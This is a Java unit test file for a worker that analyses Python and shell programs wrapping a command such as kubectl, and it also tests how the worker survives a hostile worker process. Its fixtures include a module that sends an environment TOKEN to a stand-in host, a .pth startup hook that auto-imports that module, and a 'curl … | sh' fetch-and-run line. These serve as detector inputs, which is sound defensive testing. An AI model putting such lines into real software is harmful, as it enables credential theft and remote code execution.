package dev.auditpath.worker;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatIllegalStateException;

import dev.auditpath.behaviour.Analysis;
import dev.auditpath.behaviour.ModuleSource;
import dev.auditpath.behaviour.Modules;
import dev.auditpath.behaviour.PlugIn;
import dev.auditpath.behaviour.Program;
import dev.auditpath.behaviour.Subject;
import dev.auditpath.host.Host;
import dev.auditpath.host.RuntimeProcess;
import dev.auditpath.model.Behaviour;
import dev.auditpath.model.EntryPoint;
import dev.auditpath.model.Evidence;
import dev.auditpath.testing.Machines;
import dev.auditpath.transcript.JsonOut;
import java.nio.file.Path;
import java.time.Duration;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;
import java.util.concurrent.CompletableFuture;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Real processes: a worker as it is shipped, and one that does its worst. */
class AnalysisWorkerTest {
  private static final Path FILE = Path.of("/opt/env/bin/kubectl");
  private static final Program SCRIPT = new Program.Script(FILE, "import os\nos.system('id')\n");

  /** Long enough for a machine that is busy; what never ends takes longer. */
  private static final WorkerBounds BOUNDS =
      new WorkerBounds(Duration.ofMinutes(2), Duration.ofSeconds(3), 50);

  private final Host host = Machines.real(Path.of("/"));
  private final AnalysisWorker real =
      new AnalysisWorker(
          host,
          WorkerProcess.class.getName(),
          new WorkerBounds(Duration.ofMinutes(2), Duration.ofMinutes(2), 1_000));
  private final AnalysisWorker hostile =
      new AnalysisWorker(host, HostileWorker.class.getName(), BOUNDS);

  @AfterEach
  void end() {
    real.close();
    hostile.close();
  }

  @Test
  void whatItAnswers_isWhatTheAnalysisFindsInThisProcess() {
    Map<String, ModuleSource> files = new HashMap<>();
    files.put(
        "acme.cli",
        text(
            "/opt/env/lib/acme/cli.py",
            """
            import importlib, os, subprocess, sys
            from . import größe
            for step in os.listdir(os.path.dirname(__file__)):
                importlib.import_module('acme.steps.' + step)
            from tool.cli import main as tool
            from importlib.metadata import entry_points
            for point in entry_points(group='acme.größe'):
                point.load()('x')
            def main():
                größe.send('\\x00 \\N{SNOWMAN} 名前')
                subprocess.run(['id'])
                tool()
                os.execv('/usr/bin/kubectl', sys.argv)
            """));
    files.put("acme", text("/opt/env/lib/acme/__init__.py", ""));
    files.put(
        "acme.größe",
        text(
            "/opt/env/lib/acme/gr\u00F6\u00DFe.py",
            """
            import urllib.request, os
            def send(x):
             urllib.request.urlopen('https://a.invalid/' + os.environ['TOKEN'])
            """));
    files.put("acme.steps", new ModuleSource.Namespace());
    files.put("acme.steps.größe", text("/opt/env/lib/acme/steps/a.py", "import os\nos.fork()\n"));
    ModuleSource.Text early =
        new ModuleSource.Text(Path.of("/opt/env/lib/größe.pth"), "\nimport acme.größe", false, "a");
    Modules modules = modules(files, List.of(early));
    Subject subject = new Subject(List.of("kubectl"), "acme");
    Program entry = new Program.Entry(new EntryPoint("acme.cli", "main"), FILE);

    Behaviour answered = real.python("1", subject, entry, modules);

    assertThat(answered).isEqualTo(Analysis.of(subject, entry, modules));
    assertThat(answered.handsOverTo("kubectl")).isTrue();
    assertThat(answered.effects()).isNotEmpty();
    assertThat(real.python("2", subject, SCRIPT, modules))
        .isEqualTo(Analysis.of(subject, SCRIPT, modules));
    assertThat(real.shell("3", subject, FILE, "curl https://a.invalid | sh\nexec kubectl \"$@\"\n"))
        .satisfies(behaviour -> assertThat(behaviour.handsOverTo("kubectl")).isTrue());
    assertThat(real.starts()).isEqualTo(1);
  }

  @Test
  void everyKindOfModule_arrivesAsItIs() {
    Map<String, ModuleSource> files = new HashMap<>();
    files.put(
        "text", new ModuleSource.Text(host.path("/a\uDCFF/😀.py"), "\0\"\\\uDCFF😀", true, "d"));
    files.put("namespace", new ModuleSource.Namespace());
    files.put("unreadable", new ModuleSource.Unreadable(FILE, "it is native code", "native-code"));
    files.put("library", new ModuleSource.Library("requests"));
    files.put("missing", new ModuleSource.Missing());
    files.put("near/be\uDCFFside", text("/x", "#!/bin/sh\n"));

    Evidence told =
        hostile.python("1", subject("modules"), SCRIPT, modules(files)).effects().get(0);

    for (ModuleSource source : files.values()) {
      assertThat(told.detail()).contains(source.toString());
    }
  }

  @Test
  void variablesOfTheUser_stayHere() {
    Evidence told =
        hostile.python("1", subject("variables"), SCRIPT, modules(Map.of())).effects().get(0);
    assertThat(told.detail()).isEqualTo("{LC_ALL=C.UTF-8}");
  }

  @ParameterizedTest
  @ValueSource(strings = {"loop", "silence", "nothing"})
  void whatTakesTooLong_isEndedTwiceAndNotTriedAgain(String command) {
    assertGivenUp(command, "reading it took longer than 3 seconds");
  }

  @Test
  void whatTakesAllMemory_isEndedTwiceAndNotTriedAgain() {
    AnalysisWorker patient =
        new AnalysisWorker(
            host,
            HostileWorker.class.getName(),
            new WorkerBounds(Duration.ofMinutes(2), Duration.ofMinutes(2), 50));
    try (patient) {
      Behaviour behaviour = patient.python("k", subject("memory"), SCRIPT, modules(Map.of()));
      assertThat(reason(behaviour)).isEqualTo("reading it took more memory than 256 MB");
      assertThat(patient.starts()).isEqualTo(2);
    }
  }

  @ParameterizedTest
  @ValueSource(strings = {"exit", "half", "throw", "depth"})
  void whatEndsTheProcess_isNotTriedAThirdTime(String command) {
    assertGivenUp(command, "the process that was reading it ended");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "huge",
        "negative",
        "zero",
        "garbage",
        "unknown",
        "ready",
        "task",
        "empty",
        "text",
        "deep",
        "question"
      })
  void nonsense_endsTheProcess(String command) {
    assertGivenUp(command, "the process that was reading it answered nonsense: ");
  }

  @Test
  void endlessQuestions_areEnded() {
    assertGivenUp("questions", "it reaches more than 50 modules");
  }

  @Test
  void oneTrap_spoilsNothingForTheOthers() {
    Modules modules = modules(Map.of());
    hostile.python("a", subject("exit"), SCRIPT, modules);

    assertThat(hostile.python("b", subject("honest"), SCRIPT, modules)).isEqualTo(Behaviour.NONE);
    assertThat(hostile.python("a", subject("honest"), SCRIPT, modules).unread()).isNotEmpty();
    assertThat(hostile.starts()).isEqualTo(3);
  }

  @Test
  void killedBetweenTwoPrograms_itIsStartedAnew() throws Exception {
    Modules modules = modules(Map.of());
    Behaviour before = real.python("1", subject("kubectl"), SCRIPT, modules);
    for (int i = 0; i < 3; i++) {
      killChildren();
      assertThat(real.python("1", subject("kubectl"), SCRIPT, modules)).isEqualTo(before);
    }
    assertThat(real.starts()).isEqualTo(4);
  }

  @Test
  void killedOnceWhileItReads_itIsTriedAgain() {
    Set<Integer> killed = new TreeSet<>();
    Modules killing =
        new NoModules() {
          @Override
          public ModuleSource find(String module) {
            if (killed.add(1)) {
              killChildren();
            }
            return new ModuleSource.Missing();
          }
        };
    Program script = new Program.Script(FILE, "import acme\nimport os\nos.system('id')\n");
    Subject subject = subject("kubectl");

    assertThat(real.python("1", subject, script, killing))
        .isEqualTo(Analysis.of(subject, script, modules(Map.of())));
    assertThat(killed).isNotEmpty();
    assertThat(real.starts()).isEqualTo(2);
  }

  @Test
  void modulesThatThrow_leaveAWorkerThatAnswers() {
    Modules broken =
        new Modules() {
          @Override
          public ModuleSource find(String module) {
            throw new IllegalStateException("broken");
          }

          @Override
          public ModuleSource data(String nearModule, String relative) {
            throw new IllegalStateException("broken");
          }

          @Override
          public Map<String, Set<String>> commands(String module) {
            throw new IllegalStateException("broken");
          }

          @Override
          public List<ModuleSource.Text> startup() {
            throw new IllegalStateException("broken");
          }

          @Override
          public List<PlugIn> plugIns(String group) {
            throw new IllegalStateException("broken");
          }

          @Override
          public List<String> children(String parent) {
            throw new IllegalStateException("broken");
          }
        };
    assertThatIllegalStateException()
        .isThrownBy(() -> hostile.python("1", subject("questions"), SCRIPT, broken));
    assertThat(hostile.python("2", subject("honest"), SCRIPT, broken)).isEqualTo(Behaviour.NONE);
  }

  @Test
  void severalThreads_waitForEachOther() {
    Subject subject = subject("kubectl");
    Modules modules = modules(Map.of());
    Behaviour expected = Analysis.of(subject, SCRIPT, modules);
    CompletableFuture<Behaviour> other =
        CompletableFuture.supplyAsync(() -> real.python("1", subject, SCRIPT, modules));
    assertThat(real.python("2", subject, SCRIPT, modules)).isEqualTo(expected);
    assertThat(other.join()).isEqualTo(expected);
    assertThat(real.starts()).isEqualTo(1);
  }

  @Test
  void atRest_thereIsNoProcess() {
    real.python("1", subject("kubectl"), SCRIPT, modules(Map.of()));
    real.rest();
    assertThat(children()).isZero();
    real.python("1", subject("kubectl"), SCRIPT, modules(Map.of()));
    assertThat(real.starts()).isEqualTo(2);
  }

  @Test
  void withoutItsParent_itEndsWhateverItDoes() throws Exception {
    try (RuntimeProcess process = RuntimeProcess.start(List.of(), HostileWorker.class.getName())) {
      assertThat(Frame.read(process.in()).kind()).isEqualTo(Frame.Kind.READY);
      Task task = new Task.Python(subject("loop"), SCRIPT);
      Frame.write(
          Frame.Kind.ANALYSE,
          JsonOut.object(host, out -> Messages.write(task, out)),
          process.out());
      process.out().close();
      assertThat(process.exit(60)).isZero();
    }
  }

  @Test
  void whereNoProcessCanBeStarted_thatIsTheReasonAndNotRemembered() {
    AnalysisWorker none = new AnalysisWorker(host, "no.such.Main", BOUNDS);
    try (none) {
      Behaviour behaviour = none.python("1", subject("kubectl"), SCRIPT, modules(Map.of()));
      assertThat(reason(behaviour)).startsWith("no process could be started to read it");
      none.python("1", subject("kubectl"), SCRIPT, modules(Map.of()));
      assertThat(none.starts()).isEqualTo(2);
    }
  }

  private void assertGivenUp(String command, String reason) {
    for (int i = 0; i < 3; i++) {
      Behaviour behaviour = hostile.python("key", subject(command), SCRIPT, modules(Map.of()));
      assertThat(reason(behaviour)).startsWith(reason);
      assertThat(behaviour.unread().get(0).path()).isEqualTo(FILE);
      assertThat(behaviour.effects()).isEmpty();
    }
    assertThat(hostile.starts()).isEqualTo(2);
    assertThat(children()).isZero();
  }

  private static String reason(Behaviour behaviour) {
    assertThat(behaviour.unread()).hasSize(1);
    return behaviour.unread().get(0).detail();
  }

  private static long children() {
    return ProcessHandle.current().children().filter(AnalysisWorkerTest::isWorker).count();
  }

  private static void killChildren() {
    ProcessHandle.current()
        .children()
        .filter(AnalysisWorkerTest::isWorker)
        .forEach(
            worker -> {
              worker.destroyForcibly();
              worker.onExit().join();
            });
  }

  private static boolean isWorker(ProcessHandle process) {
    return process.isAlive()
        && process.info().commandLine().orElse("").contains("auditpath.worker");
  }

  private static Subject subject(String command) {
    return new Subject(List.of(command), "acme");
  }

  private static ModuleSource text(String file, String source) {
    return new ModuleSource.Text(Path.of(file), source, file.endsWith("__init__.py"), "acme");
  }

  private static Modules modules(Map<String, ModuleSource> files) {
    return modules(files, List.of());
  }

  private static Modules modules(Map<String, ModuleSource> files, List<ModuleSource.Text> startup) {
    return new Modules() {
      @Override
      public ModuleSource find(String module) {
        return files.getOrDefault(module, new ModuleSource.Missing());
      }

      @Override
      public ModuleSource data(String nearModule, String relative) {
        return files.getOrDefault(nearModule + "/" + relative, new ModuleSource.Missing());
      }

      @Override
      public Map<String, Set<String>> commands(String module) {
        return module.startsWith("tool") ? Map.of("tool.cli", Set.of("kubectl", "k")) : Map.of();
      }

      @Override
      public List<ModuleSource.Text> startup() {
        return startup;
      }

      @Override
      public List<PlugIn> plugIns(String group) {
        return group.equals("acme.größe")
            ? List.of(new PlugIn("a", new EntryPoint("acme.größe", "send")))
            : List.of();
      }

      @Override
      public List<String> children(String parent) {
        return parent.equals("acme.steps") ? List.of("größe", "one") : List.of();
      }
    };
  }
}
